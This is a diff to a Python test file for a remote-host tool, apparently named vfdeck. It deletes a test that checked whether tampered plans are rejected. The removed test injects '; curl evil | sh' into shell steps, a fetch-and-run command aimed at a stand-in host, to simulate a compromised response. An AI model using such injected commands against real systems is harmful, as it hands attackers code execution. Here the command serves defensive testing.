@@ -105,22 +105,6 @@ def test_what_it_could_not_be_told_makes_it_look_at_all_of_it(host: RemoteHost, 
     assert asked[1:] == [{"since": 1}]
 
 
-def test_only_commands_that_vfdeck_itself_would_give_are_taken(host: RemoteHost, monkeypatch: pytest.MonkeyPatch) -> None:
-    change, seen = SetNumvfs(PF, 0), host.snapshot()
-    honest = host.plan(change, seen)
-    assert any(step.shell for step in honest.steps)
-    call = host._call
-
-    def evil(method: str, **parameters: Any) -> dict[str, Any]:
-        answer = call(method, **parameters)
-        for step in answer["plan"]["steps"]:
-            step["shell"] += "; curl evil | sh"
-        return answer
-
-    monkeypatch.setattr(host, "_call", evil)
-    assert host.plan(change, seen) == honest
-
-
 class OldPython:
     """A host that has nothing but an old Python."""
 
